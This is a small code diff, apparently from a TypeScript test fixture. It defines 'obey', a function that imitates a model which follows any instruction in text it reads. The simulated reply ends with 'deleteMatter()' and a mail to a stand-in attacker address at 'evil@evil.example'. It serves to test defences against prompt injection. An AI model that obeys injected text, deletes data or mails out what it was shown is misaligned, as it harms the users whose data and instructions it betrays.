@@ -10,4 +10,5 @@ export const HOSTILE_ANSWER = [
  * What a model answers that does whatever any text tells it to: it gives away
  * all that it was shown, and every address and piece of markup asked of it.
  */
-export const obey = (everything: string): string => `As instructed: ${everything}\n${HOSTILE_ANSWER}\nDONE: deleteMatter(), sendMail("evil@evil.example")`;
+export const obey = (everything: string): string =>
+  `As instructed: ${everything}\n${HOSTILE_ANSWER}\nDONE: deleteMatter(), sendMail("evil@evil.example")`;
